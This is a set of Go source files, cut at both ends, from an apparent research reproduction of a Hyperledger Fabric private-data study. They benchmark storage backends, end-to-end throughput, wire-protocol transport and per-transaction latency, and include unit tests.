		NoFsync:                v.noFsync,
		NoBackgroundCompaction: true,
	}
	b, err := storage.Open(v.backend, opts)
	if err != nil {
		return out, err
	}

	// Raw append cost. Keys cycle over a quarter of the written records
	// so most appends are overwrites — garbage for the compaction pass.
	value := make([]byte, cfg.ValueBytes)
	keySpace := cfg.Batches * cfg.RecordsPerBatch / 4
	if keySpace < 1 {
		keySpace = 1
	}
	seq := 0
	start := time.Now()
	for i := 0; i < cfg.Batches; i++ {
		batch := storage.StateBatch{Height: uint64(i + 1)}
		for j := 0; j < cfg.RecordsPerBatch; j++ {
			k := seq % keySpace
			batch.Records = append(batch.Records, storage.StateRecord{
				Namespace: "bench",
				Key:       "k" + strconv.Itoa(k),
				Value:     value,
				Version:   uint64(seq/keySpace + 1),
			})
			seq++
		}
		if err := b.State().Apply(batch); err != nil {
			b.Close()
			return out, err
		}
	}
	elapsed := time.Since(start)
	out.ApplyNsPerBatch = float64(elapsed.Nanoseconds()) / float64(cfg.Batches)
	out.ApplyNsPerRecord = out.ApplyNsPerBatch / float64(cfg.RecordsPerBatch)

	start = time.Now()
	if err := b.State().Compact(); err != nil {
		b.Close()
		return out, err
	}
	out.CompactNs = time.Since(start).Nanoseconds()

	// Recovery: for durable backends, close and reopen the directory and
	// replay the state log; the memory backend replays in place.
	count := func(s storage.StateStore) (int, error) {
		n := 0
		err := s.Load(func(batch storage.StateBatch) error {
			n += len(batch.Records)
			return nil
		})
		return n, err
	}
	if v.backend == "durable" {
		if err := b.Close(); err != nil {
			return out, err
		}
		start = time.Now()
		b, err = storage.Open(v.backend, opts)
		if err != nil {
			return out, err
		}
		out.RecoveredRecords, err = count(b.State())
		out.RecoverNs = time.Since(start).Nanoseconds()
	} else {
		start = time.Now()
		out.RecoveredRecords, err = count(b.State())
		out.RecoverNs = time.Since(start).Nanoseconds()
	}
	if cerr := b.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return out, err
	}

	// End-to-end throughput with every peer of the measurement network
	// committing through this backend.
	if cfg.Txs > 0 {
		tps, done, err := storageThroughput(v, cfg.Clients, cfg.Txs)
		if err != nil {
			return out, err
		}
		out.TPS = tps
		out.Transactions = done
	}
	return out, nil
}

// storageThroughput drives public transactions through a network whose
// peers all persist via the given backend and reports tx/s.
func storageThroughput(v storageVariant, clients, total int) (float64, int, error) {
	sec := core.OriginalFabric()
	sec.StorageBackend = v.backend
	sec.StorageNoFsync = v.noFsync
	if v.backend == "durable" {
		dir, err := os.MkdirTemp("", "pdc-perf-net-")
		if err != nil {
			return 0, 0, err
		}
		defer os.RemoveAll(dir)
		sec.StorageDir = dir
	}
	h, err := newHarness(sec)
	if err != nil {
		return 0, 0, err
	}
	defer h.net.Close()

	if clients < 1 {
		clients = 1
	}
	perClient := total / clients
	if perClient == 0 {
		perClient = 1
	}
	var wg sync.WaitGroup
	errCh := make(chan error, clients)
	start := time.Now()
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			for i := 0; i < perClient; i++ {
				key := "s" + strconv.Itoa(c) + "-" + strconv.Itoa(i)
				if _, err := h.submit(nil, "set", []string{key, "v"}); err != nil {
					errCh <- err
					return
				}
			}
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)
	close(errCh)
	for err := range errCh {
		return 0, 0, err
	}
	done := clients * perClient
	return float64(done) / elapsed.Seconds(), done, nil
}

// RenderStorage formats the storage scenario as a table.
func RenderStorage(r StorageResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Storage backends (%d batches x %d records, %dB values; TPS over %d txs, %d clients)\n",
		r.Batches, r.RecordsPerBatch, r.ValueBytes, r.Txs, r.Clients)
	fmt.Fprintf(&b, "%-20s %-6s %14s %14s %12s %12s %8s\n",
		"backend", "fsync", "apply ns/batch", "apply ns/rec", "compact ms", "recover ms", "tx/s")
	for _, v := range r.Backends {
		tps := "-"
		if v.Transactions > 0 {
			tps = fmt.Sprintf("%.0f", v.TPS)
		}
		fmt.Fprintf(&b, "%-20s %-6v %14.0f %14.0f %12.2f %12.2f %8s\n",
			v.Backend, v.Fsync, v.ApplyNsPerBatch, v.ApplyNsPerRecord,
			float64(v.CompactNs)/1e6, float64(v.RecoverNs)/1e6, tps)
	}
	fmt.Fprintf(&b, "recovery replays the compacted log: %d live records per durable reopen\n",
		liveRecords(r))
	return b.String()
}

// liveRecords returns the recovered-record count of the first durable
// variant (they all replay the same workload).
func liveRecords(r StorageResult) int {
	for _, v := range r.Backends {
		if v.Backend != "memory" {
			return v.RecoveredRecords
		}
	}
	return 0
}

// StorageJSON marshals the result as indented JSON (the committed
// BENCH_storage.json baseline).
func StorageJSON(r StorageResult) ([]byte, error) {
	out, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}
