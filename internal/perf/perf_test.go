package perf

import (
	"strings"
	"testing"
	"time"

	"repro/internal/core"
)

func TestSummarize(t *testing.T) {
	s := summarize([]time.Duration{3, 1, 2})
	if s.Runs != 3 || s.Mean != 2 || s.Median != 2 || s.Min != 1 || s.Max != 3 {
		t.Fatalf("stats = %+v", s)
	}
	if z := summarize(nil); z.Runs != 0 {
		t.Fatal("empty sample not zero")
	}
}

func TestMeasureExecutionAllKinds(t *testing.T) {
	for _, kind := range AllTxKinds {
		res, err := MeasureExecution(Options{Runs: 3}, kind)
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		if res.Stats.Runs != 3 || res.Stats.Mean <= 0 {
			t.Fatalf("%s stats = %+v", kind, res.Stats)
		}
		if res.Phase != PhaseExecution {
			t.Fatalf("phase = %v", res.Phase)
		}
	}
}

func TestMeasureValidationAllKinds(t *testing.T) {
	for _, kind := range AllTxKinds {
		res, err := MeasureValidation(Options{Runs: 3, Framework: "defended", Security: core.DefendedFabric()}, kind)
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		if res.Stats.Runs != 3 || res.Stats.Mean <= 0 {
			t.Fatalf("%s stats = %+v", kind, res.Stats)
		}
	}
}

func TestRunFig11AndRender(t *testing.T) {
	if testing.Short() {
		t.Skip("Fig. 11 sweep skipped in -short")
	}
	results, err := RunFig11(5)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 12 { // 2 frameworks x 2 phases x 3 kinds
		t.Fatalf("results = %d, want 12", len(results))
	}
	out := Render(results)
	for _, want := range []string{"execution latency", "validation latency", "read", "write", "delete", "overhead"} {
		if !strings.Contains(out, want) {
			t.Errorf("render lacks %q:\n%s", want, out)
		}
	}
}

func TestMeasureThroughput(t *testing.T) {
	r, err := MeasureThroughput(core.OriginalFabric(), "original", 2, 6)
	if err != nil {
		t.Fatal(err)
	}
	if r.Transactions != 6 || r.TPS <= 0 {
		t.Fatalf("result = %+v", r)
	}
	out := RenderThroughput([]ThroughputResult{r})
	if !strings.Contains(out, "original") {
		t.Fatalf("render = %q", out)
	}
}
