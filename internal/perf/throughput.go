package perf

import (
	"fmt"
	"strconv"
	"sync"
	"time"

	"repro/internal/core"
)

// ThroughputResult reports an end-to-end throughput measurement: full
// endorse → order → validate → commit pipeline.
type ThroughputResult struct {
	Framework string
	// Clients is the number of concurrent submitters.
	Clients int
	// Transactions completed.
	Transactions int
	// Elapsed wall clock.
	Elapsed time.Duration
	// TPS is Transactions / Elapsed.
	TPS float64
	// Invalid counts transactions that were ordered but invalidated
	// (MVCC conflicts between concurrent submitters).
	Invalid int
}

// MeasureThroughput drives `total` public transactions through the full
// pipeline using `clients` concurrent submitters (each writing disjoint
// keys, so contention is in the pipeline, not in MVCC).
func MeasureThroughput(sec core.SecurityConfig, framework string, clients, total int) (ThroughputResult, error) {
	if clients < 1 {
		clients = 1
	}
	h, err := newHarness(sec)
	if err != nil {
		return ThroughputResult{}, err
	}
	perClient := total / clients
	if perClient == 0 {
		perClient = 1
	}

	var wg sync.WaitGroup
	errCh := make(chan error, clients)
	start := time.Now()
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			for i := 0; i < perClient; i++ {
				key := "t" + strconv.Itoa(c) + "-" + strconv.Itoa(i)
				if _, err := h.submit(nil, "set", []string{key, "v"}); err != nil {
					errCh <- fmt.Errorf("perf: throughput client %d: %w", c, err)
					return
				}
			}
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)
	close(errCh)
	for err := range errCh {
		return ThroughputResult{}, err
	}

	done := clients * perClient
	return ThroughputResult{
		Framework:    framework,
		Clients:      clients,
		Transactions: done,
		Elapsed:      elapsed,
		TPS:          float64(done) / elapsed.Seconds(),
	}, nil
}

// RenderThroughput prints a throughput comparison.
func RenderThroughput(results []ThroughputResult) string {
	out := "End-to-end throughput (endorse + order + validate + commit)\n"
	out += fmt.Sprintf("%-12s%-10s%-8s%-12s%-10s\n", "framework", "clients", "txs", "elapsed", "tx/s")
	for _, r := range results {
		out += fmt.Sprintf("%-12s%-10d%-8d%-12s%-10.0f\n",
			r.Framework, r.Clients, r.Transactions, r.Elapsed.Round(time.Millisecond), r.TPS)
	}
	return out
}
