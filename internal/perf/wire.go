package perf

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"

	"repro/internal/loadgen"
	"repro/internal/netconfig"
	"repro/internal/node"
	"repro/internal/pvtdata"
	"repro/internal/service"
	"repro/internal/wire"
)

// WireCell is one scenario of the transport comparison: the same
// closed-loop burst measured either through in-process gateways or
// through wire-protocol clients talking to a cluster of separate OS
// processes, under one payload codec.
type WireCell struct {
	// Scenario is "in-process" for the baseline, or "wire-<codec>"
	// with "-tls"/"-large" suffixes for the deployment variants.
	Scenario string `json:"scenario"`
	// Codec is the wire payload encoding ("binary" or "json"); empty
	// for the in-process baseline, which frames nothing.
	Codec string `json:"codec,omitempty"`
	// TLS marks cells whose cluster ran pinned-key TLS.
	TLS bool `json:"tls,omitempty"`
	// Mix is the loadgen workload driving the cell.
	Mix string `json:"mix"`
	// Processes counts the OS processes serving the burst (1 for the
	// in-process baseline; orderer + peers + gateway for wire runs).
	Processes int `json:"processes"`
	loadgen.PointJSON
	// RPC aggregates per-method call and framed-byte counters across
	// the client fleet (wire cells only).
	RPC map[string]wire.RPCStat `json:"rpc,omitempty"`
}

// BytesPerTx returns the cell's total framed bytes (both directions,
// all methods) divided by completed transactions; 0 when the cell has
// no RPC stats or completed nothing.
func (c WireCell) BytesPerTx() float64 {
	if c.Completed == 0 || len(c.RPC) == 0 {
		return 0
	}
	var total uint64
	for _, st := range c.RPC {
		total += st.BytesOut + st.BytesIn
	}
	return float64(total) / float64(c.Completed)
}

// WireOptions selects which transport-comparison cells to run.
type WireOptions struct {
	Clients     int
	TxPerClient int
	BatchSize   int
	// Codecs lists the payload codecs to measure over plaintext TCP
	// (one cluster per codec). Empty defaults to binary then JSON.
	Codecs []wire.Codec
	// TLS adds a binary-codec cell over pinned-key TLS.
	TLS bool
	// Large adds a binary-codec cell running MixLarge (16 KiB values),
	// stressing payload size rather than round-trip count.
	Large bool
}

// WireResult is the BENCH_wire.json artifact: submit→commit latency,
// throughput and framed-byte cost for the in-process baseline against
// multi-process wire deployments, same workload, same topology.
type WireResult struct {
	Clients     int        `json:"clients"`
	TxPerClient int        `json:"tx_per_client"`
	BatchSize   int        `json:"batch_size"`
	Cells       []WireCell `json:"cells"`
}

// Cell returns the first cell with the given scenario name, or nil.
func (r *WireResult) Cell(scenario string) *WireCell {
	for i := range r.Cells {
		if r.Cells[i].Scenario == scenario {
			return &r.Cells[i]
		}
	}
	return nil
}

// wireTopology mirrors the in-process loadgen harness: three orgs, one
// peer each, the public "asset" chaincode (the burst is public writes;
// the PDC flow has its own scenarios).
func wireTopology(batch int) *netconfig.Config {
	return &netconfig.Config{
		Orgs:      []string{"org1", "org2", "org3"},
		BatchSize: batch,
		Seed:      1,
		Chaincodes: []netconfig.Chaincode{{
			Name:    "asset",
			Version: "1.0",
			Collections: []pvtdata.CollectionConfig{{
				Name:         "pdc1",
				MemberPolicy: "OR(org1.member, org2.member)",
				MaxPeerCount: 3,
			}},
			Contract:   "merged",
			Collection: "pdc1",
		}},
	}
}

// MeasureWire runs the same closed-loop burst through in-process
// gateways (the baseline every other benchmark uses) and then through
// the TCP wire protocol against clusters of real OS processes launched
// from self (the running binary re-executed with PDC_WIRE_ROLE set —
// the caller's main must route through node.RunRoleFromEnv). Each wire
// cell gets its own cluster so the chosen codec and TLS mode govern
// every hop, client→gateway and gateway→peer→orderer alike. The gap
// between cells is the cost of frames, encoding, TCP and process
// isolation on the submit→commit path.
func MeasureWire(self string, o WireOptions) (WireResult, error) {
	if len(o.Codecs) == 0 {
		o.Codecs = []wire.Codec{wire.CodecBinary, wire.CodecJSON}
	}
	res := WireResult{Clients: o.Clients, TxPerClient: o.TxPerClient, BatchSize: o.BatchSize}
	zipf := loadgen.RunOptions{Mix: loadgen.MixZipf, TxPerClient: o.TxPerClient, Keys: 64}

	// In-process baseline.
	h, err := loadgen.NewHarness(loadgen.Config{Clients: o.Clients, BatchSize: o.BatchSize, Seed: 1})
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: wire baseline: %w", err)
	}
	if _, err := h.Run(warmup(zipf)); err != nil {
		h.Close()
		return WireResult{}, fmt.Errorf("perf: wire baseline warmup: %w", err)
	}
	pt, err := h.Run(zipf)
	h.Close()
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: wire baseline: %w", err)
	}
	res.Cells = append(res.Cells, WireCell{
		Scenario: "in-process", Mix: loadgen.MixZipf, Processes: 1, PointJSON: pt.JSON(),
	})

	for _, codec := range o.Codecs {
		cell, err := runWireCell(self, "wire-"+string(codec), codec, false, o, zipf)
		if err != nil {
			return WireResult{}, err
		}
		res.Cells = append(res.Cells, cell)
	}
	if o.TLS {
		cell, err := runWireCell(self, "wire-binary-tls", wire.CodecBinary, true, o, zipf)
		if err != nil {
			return WireResult{}, err
		}
		res.Cells = append(res.Cells, cell)
	}
	if o.Large {
		large := zipf
		large.Mix = loadgen.MixLarge
		cell, err := runWireCell(self, "wire-large", wire.CodecBinary, false, o, large)
		if err != nil {
			return WireResult{}, err
		}
		res.Cells = append(res.Cells, cell)
	}
	return res, nil
}

// warmup derives a short discarded burst from a cell's run options.
func warmup(opts loadgen.RunOptions) loadgen.RunOptions {
	opts.TxPerClient = min(10, opts.TxPerClient)
	return opts
}

// fleetStats sums per-method RPC counters across the client fleet.
func fleetStats(gwcs []*wire.GatewayClient) map[string]wire.RPCStat {
	out := make(map[string]wire.RPCStat)
	for _, gwc := range gwcs {
		for method, st := range gwc.RPCStats() {
			agg := out[method]
			agg.Calls += st.Calls
			agg.BytesOut += st.BytesOut
			agg.BytesIn += st.BytesIn
			out[method] = agg
		}
	}
	return out
}

// runWireCell launches a fresh cluster with the given codec and TLS
// mode, drives the burst through a fleet of wire gateway clients, and
// folds the fleet's per-RPC byte counters into the cell.
func runWireCell(self, scenario string, codec wire.Codec, tlsOn bool, o WireOptions, opts loadgen.RunOptions) (WireCell, error) {
	cfg := wireTopology(o.BatchSize)
	if err := cfg.Validate(); err != nil {
		return WireCell{}, err
	}
	dir, err := os.MkdirTemp("", "fabricbench-wire-")
	if err != nil {
		return WireCell{}, err
	}
	defer os.RemoveAll(dir)
	cl, err := node.LaunchCluster(cfg, node.LaunchOptions{Self: self, Dir: dir, TLS: tlsOn, Codec: codec})
	if err != nil {
		return WireCell{}, fmt.Errorf("perf: launch cluster (%s): %w", scenario, err)
	}
	defer cl.Stop()

	// One wire connection per client, so the burst exercises real
	// concurrent connections rather than one multiplexed socket.
	fleet := make([]service.Gateway, o.Clients)
	gwcs := make([]*wire.GatewayClient, o.Clients)
	for c := range fleet {
		gwc, err := cl.DialGateway()
		if err != nil {
			return WireCell{}, fmt.Errorf("perf: dial gateway (%s): %w", scenario, err)
		}
		defer gwc.Close()
		fleet[c] = gwc
		gwcs[c] = gwc
	}
	rh, err := loadgen.NewRemoteHarness(loadgen.Config{Clients: o.Clients, BatchSize: o.BatchSize, Seed: 1},
		cl.Material.Channel, fleet...)
	if err != nil {
		return WireCell{}, err
	}
	// A discarded warmup burst first: freshly-spawned processes pay
	// connection ramp and cold caches on their first transactions,
	// which otherwise lands entirely in this cell's tail.
	if _, err := rh.Run(warmup(opts)); err != nil {
		return WireCell{}, fmt.Errorf("perf: wire warmup (%s): %w", scenario, err)
	}
	warm := fleetStats(gwcs)
	pt, err := rh.Run(opts)
	if err != nil {
		return WireCell{}, fmt.Errorf("perf: wire run (%s): %w", scenario, err)
	}
	// Report only the measured burst's traffic: the counters are
	// cumulative per connection, so subtract the warmup snapshot.
	rpc := fleetStats(gwcs)
	for method, st := range rpc {
		w := warm[method]
		st.Calls -= w.Calls
		st.BytesOut -= w.BytesOut
		st.BytesIn -= w.BytesIn
		rpc[method] = st
	}
	// orderer + peers + gateway processes serve the wire cell.
	return WireCell{
		Scenario:  scenario,
		Codec:     string(codec),
		TLS:       tlsOn,
		Mix:       opts.Mix,
		Processes: len(cl.PeerNames()) + 2,
		PointJSON: pt.JSON(),
		RPC:       rpc,
	}, nil
}

// WireJSON renders the result as the committed BENCH_wire.json artifact.
func WireJSON(res WireResult) ([]byte, error) {
	out, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}

// RenderWire prints the transport comparison as a table, with p50
// ratios against the in-process baseline and per-transaction framed
// byte costs where measured.
func RenderWire(res WireResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Transport comparison: %d clients x %d tx, batch %d\n\n",
		res.Clients, res.TxPerClient, res.BatchSize)
	fmt.Fprintf(&b, "%-18s%-8s%-6s%-6s%-12s%-10s%-10s%-10s%-10s%-10s\n",
		"scenario", "codec", "tls", "procs", "achieved", "invalid", "p50ms", "p95ms", "p99ms", "B/tx")
	base := res.Cell("in-process")
	for _, c := range res.Cells {
		fmt.Fprintf(&b, "%-18s%-8s%-6v%-6d%-12.1f%-10d%-10.2f%-10.2f%-10.2f%-10.0f\n",
			c.Scenario, c.Codec, c.TLS, c.Processes, c.AchievedTPS, c.Invalid,
			c.P50Ms, c.P95Ms, c.P99Ms, c.BytesPerTx())
	}
	if base != nil && base.P50Ms > 0 {
		b.WriteString("\n")
		for _, c := range res.Cells {
			if c.Scenario == "in-process" {
				continue
			}
			fmt.Fprintf(&b, "%s/in-process p50 ratio: %.2fx\n", c.Scenario, c.P50Ms/base.P50Ms)
		}
	}
	for _, c := range res.Cells {
		if len(c.RPC) == 0 {
			continue
		}
		fmt.Fprintf(&b, "\n%s per-RPC traffic:\n", c.Scenario)
		methods := make([]string, 0, len(c.RPC))
		for m := range c.RPC {
			methods = append(methods, m)
		}
		sort.Strings(methods)
		for _, m := range methods {
			st := c.RPC[m]
			fmt.Fprintf(&b, "  %-16s calls=%-7d out=%-10d in=%d\n", m, st.Calls, st.BytesOut, st.BytesIn)
		}
	}
	return b.String()
}
