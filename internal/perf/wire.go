package perf

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"

	"repro/internal/loadgen"
	"repro/internal/netconfig"
	"repro/internal/node"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

// WireCell is one scenario of the transport comparison: the same
// closed-loop Zipfian burst measured either through in-process
// gateways or through wire-protocol clients talking to a cluster of
// separate OS processes.
type WireCell struct {
	// Scenario is "in-process" or "wire" (with "wire-tls" when the
	// cluster runs pinned-key TLS).
	Scenario string `json:"scenario"`
	// Processes counts the OS processes serving the burst (1 for the
	// in-process baseline; orderer + peers + gateway for the wire run).
	Processes int `json:"processes"`
	loadgen.PointJSON
}

// WireResult is the BENCH_wire.json artifact: submit→commit latency
// and throughput for the in-process baseline against the multi-process
// wire deployment, same workload, same topology.
type WireResult struct {
	Clients     int        `json:"clients"`
	TxPerClient int        `json:"tx_per_client"`
	BatchSize   int        `json:"batch_size"`
	TLS         bool       `json:"tls"`
	Cells       []WireCell `json:"cells"`
}

// wireTopology mirrors the in-process loadgen harness: three orgs, one
// peer each, the public "asset" chaincode (the burst is public writes;
// the PDC flow has its own scenarios).
func wireTopology(batch int) *netconfig.Config {
	return &netconfig.Config{
		Orgs:      []string{"org1", "org2", "org3"},
		BatchSize: batch,
		Seed:      1,
		Chaincodes: []netconfig.Chaincode{{
			Name:    "asset",
			Version: "1.0",
			Collections: []pvtdata.CollectionConfig{{
				Name:         "pdc1",
				MemberPolicy: "OR(org1.member, org2.member)",
				MaxPeerCount: 3,
			}},
			Contract:   "merged",
			Collection: "pdc1",
		}},
	}
}

// MeasureWire runs the same Zipfian closed-loop burst twice: once
// against in-process gateways (the baseline every other benchmark
// uses) and once through the TCP wire protocol against a cluster of
// real OS processes launched from self (the running binary re-executed
// with PDC_WIRE_ROLE set — the caller's main must route through
// node.RunRoleFromEnv). The gap between the two is the cost of frames,
// JSON, TCP and process isolation on the submit→commit path.
func MeasureWire(self string, clients, txPerClient, batch int, tlsOn bool) (WireResult, error) {
	res := WireResult{Clients: clients, TxPerClient: txPerClient, BatchSize: batch, TLS: tlsOn}
	opts := loadgen.RunOptions{Mix: loadgen.MixZipf, TxPerClient: txPerClient, Keys: 64}

	// In-process baseline.
	h, err := loadgen.NewHarness(loadgen.Config{Clients: clients, BatchSize: batch, Seed: 1})
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: wire baseline: %w", err)
	}
	pt, err := h.Run(opts)
	h.Close()
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: wire baseline: %w", err)
	}
	res.Cells = append(res.Cells, WireCell{Scenario: "in-process", Processes: 1, PointJSON: pt.JSON()})

	// Multi-process cluster over the wire.
	cfg := wireTopology(batch)
	if err := cfg.Validate(); err != nil {
		return WireResult{}, err
	}
	dir, err := os.MkdirTemp("", "fabricbench-wire-")
	if err != nil {
		return WireResult{}, err
	}
	defer os.RemoveAll(dir)
	cl, err := node.LaunchCluster(cfg, node.LaunchOptions{Self: self, Dir: dir, TLS: tlsOn})
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: launch cluster: %w", err)
	}
	defer cl.Stop()

	// One wire connection per client, so the burst exercises real
	// concurrent connections rather than one multiplexed socket.
	fleet := make([]service.Gateway, clients)
	for c := range fleet {
		gwc, err := cl.DialGateway()
		if err != nil {
			return WireResult{}, fmt.Errorf("perf: dial gateway: %w", err)
		}
		defer gwc.Close()
		fleet[c] = gwc
	}
	rh, err := loadgen.NewRemoteHarness(loadgen.Config{Clients: clients, BatchSize: batch, Seed: 1},
		cl.Material.Channel, fleet...)
	if err != nil {
		return WireResult{}, err
	}
	wpt, err := rh.Run(opts)
	if err != nil {
		return WireResult{}, fmt.Errorf("perf: wire run: %w", err)
	}
	scenario := "wire"
	if tlsOn {
		scenario = "wire-tls"
	}
	// orderer + peers + gateway processes serve the wire cell.
	res.Cells = append(res.Cells, WireCell{
		Scenario:  scenario,
		Processes: len(cl.PeerNames()) + 2,
		PointJSON: wpt.JSON(),
	})
	return res, nil
}

// WireJSON renders the result as the committed BENCH_wire.json artifact.
func WireJSON(res WireResult) ([]byte, error) {
	out, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}

// RenderWire prints the transport comparison as a table.
func RenderWire(res WireResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Transport comparison: %d clients x %d tx, batch %d, tls=%v\n\n",
		res.Clients, res.TxPerClient, res.BatchSize, res.TLS)
	fmt.Fprintf(&b, "%-12s%-6s%-12s%-10s%-10s%-10s%-10s\n",
		"scenario", "procs", "achieved", "invalid", "p50ms", "p95ms", "p99ms")
	for _, c := range res.Cells {
		fmt.Fprintf(&b, "%-12s%-6d%-12.1f%-10d%-10.2f%-10.2f%-10.2f\n",
			c.Scenario, c.Processes, c.AchievedTPS, c.Invalid, c.P50Ms, c.P95Ms, c.P99Ms)
	}
	if len(res.Cells) == 2 && res.Cells[0].P50Ms > 0 {
		fmt.Fprintf(&b, "\nwire/in-process p50 ratio: %.2fx\n",
			res.Cells[1].P50Ms/res.Cells[0].P50Ms)
	}
	return b.String()
}
