// Package perf implements the paper's performance evaluation (§V-D,
// Fig. 11): per-transaction execution (endorsement) latency and
// validation latency for read, write and delete transactions, measured
// under the original Fabric framework and under the modified framework
// with the defense features enabled.
//
// Each measurement repeats the operation the paper's 100 times (config-
// urable) on a three-org network and reports mean, median, min and max.
package perf

import (
	"context"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"time"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

// TxKind enumerates the transaction types of Fig. 11.
type TxKind string

// The transaction types measured in Fig. 11.
const (
	TxRead   TxKind = "read"
	TxWrite  TxKind = "write"
	TxDelete TxKind = "delete"
)

// AllTxKinds lists the Fig. 11 transaction types in order.
var AllTxKinds = []TxKind{TxRead, TxWrite, TxDelete}

// Phase selects which latency is measured.
type Phase string

// The two phases instrumented by the paper.
const (
	PhaseExecution  Phase = "execution"
	PhaseValidation Phase = "validation"
)

// Stats summarizes a latency sample.
type Stats struct {
	Runs   int
	Mean   time.Duration
	Median time.Duration
	Min    time.Duration
	Max    time.Duration
}

func summarize(samples []time.Duration) Stats {
	if len(samples) == 0 {
		return Stats{}
	}
	sorted := append([]time.Duration(nil), samples...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	var total time.Duration
	for _, s := range sorted {
		total += s
	}
	return Stats{
		Runs:   len(sorted),
		Mean:   total / time.Duration(len(sorted)),
		Median: sorted[len(sorted)/2],
		Min:    sorted[0],
		Max:    sorted[len(sorted)-1],
	}
}

// Result is one Fig. 11 data point: a (framework, phase, tx kind) cell.
type Result struct {
	Framework string
	Phase     Phase
	Kind      TxKind
	Stats     Stats
}

// Options parameterizes a measurement run.
type Options struct {
	// Runs per cell; the paper uses 100.
	Runs int
	// Security is the framework variant under test.
	Security core.SecurityConfig
	// Framework labels the variant in reports.
	Framework string
}

func (o Options) withDefaults() Options {
	if o.Runs == 0 {
		o.Runs = 100
	}
	if o.Framework == "" {
		o.Framework = "original"
	}
	return o
}

// harness is a warm three-org network prepared for latency measurement.
type harness struct {
	net     *network.Network
	members []*peer.Peer
}

// newHarness builds the measurement network: org1+org2 share the PDC,
// org3 is a non-member, collection-level policy AND(org1, org2) so that
// Feature 1 has a policy to route to.
func newHarness(sec core.SecurityConfig) (*harness, error) {
	net, err := network.New(network.Options{
		Orgs:     []string{"org1", "org2", "org3"},
		Security: sec,
		Seed:     123,
	})
	if err != nil {
		return nil, err
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:              "pdc1",
			MemberPolicy:      "OR(org1.member, org2.member)",
			MaxPeerCount:      3,
			EndorsementPolicy: "AND(org1.peer, org2.peer)",
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		return nil, err
	}
	return &harness{
		net:     net,
		members: []*peer.Peer{net.Peer("org1"), net.Peer("org2")},
	}, nil
}

// submit drives one transaction end to end through the org1 gateway.
// A nil endorser set falls through to the gateway default (every peer).
func (h *harness) submit(endorsers []*peer.Peer, fn string, args []string) (*gateway.Result, error) {
	req := service.NewInvoke("asset", fn, args...)
	if endorsers != nil {
		req = req.WithEndorsers(service.Names(endorsers)...)
	}
	return h.net.Gateway("org1").Submit(context.Background(), req)
}

// endorse assembles one transaction against the member peers without
// ordering it, for benchmarks that interpose between the phases.
func (h *harness) endorse(fn string, args []string) (*ledger.Transaction, error) {
	gw := h.net.Gateway("org1")
	prop, err := gw.NewProposal("asset", fn, args, nil)
	if err != nil {
		return nil, err
	}
	tx, _, err := gw.EndorseProposal(context.Background(), prop, service.AsEndorsers(h.members))
	return tx, err
}

// proposalFor builds the proposal of one measured operation. Keys are
// unique per run so write and delete operations do not interfere.
func (h *harness) proposalFor(kind TxKind, run int) (fn string, args []string, err error) {
	key := "k" + strconv.Itoa(run)
	switch kind {
	case TxRead:
		// Reads target a pre-written key.
		return "readPrivate", []string{key}, nil
	case TxWrite:
		return "setPrivate", []string{key, "12"}, nil
	case TxDelete:
		return "delPrivate", []string{key, "12"}, nil
	default:
		return "", nil, fmt.Errorf("perf: unknown kind %q", kind)
	}
}

// seed pre-writes the keys that read and delete operations will touch.
func (h *harness) seed(kind TxKind, runs int) error {
	if kind == TxWrite {
		return nil
	}
	for i := 0; i < runs; i++ {
		key := "k" + strconv.Itoa(i)
		if _, err := h.submit(h.members, "setPrivate", []string{key, "12"}); err != nil {
			return fmt.Errorf("perf: seed %s: %w", key, err)
		}
	}
	return nil
}

// MeasureExecution times the execution phase (ProcessProposal on one
// member endorser) for one transaction kind.
func MeasureExecution(opts Options, kind TxKind) (Result, error) {
	o := opts.withDefaults()
	h, err := newHarness(o.Security)
	if err != nil {
		return Result{}, err
	}
	if err := h.seed(kind, o.Runs); err != nil {
		return Result{}, err
	}
	gw := h.net.Gateway("org1")
	// Warm up outside the measurement window (JIT-free, but first runs
	// still pay allocator and cache warmup costs).
	warmup := o.Runs / 10
	if warmup < 3 {
		warmup = 3
	}
	samples := make([]time.Duration, 0, o.Runs)
	for i := -warmup; i < o.Runs; i++ {
		run := i
		if run < 0 {
			run = 0
		}
		fn, args, err := h.proposalFor(kind, run)
		if err != nil {
			return Result{}, err
		}
		prop, err := gw.NewProposal("asset", fn, args, nil)
		if err != nil {
			return Result{}, err
		}
		start := time.Now()
		if _, err := h.net.Peer("org1").ProcessProposal(prop); err != nil {
			return Result{}, fmt.Errorf("perf: execute %s run %d: %w", kind, i, err)
		}
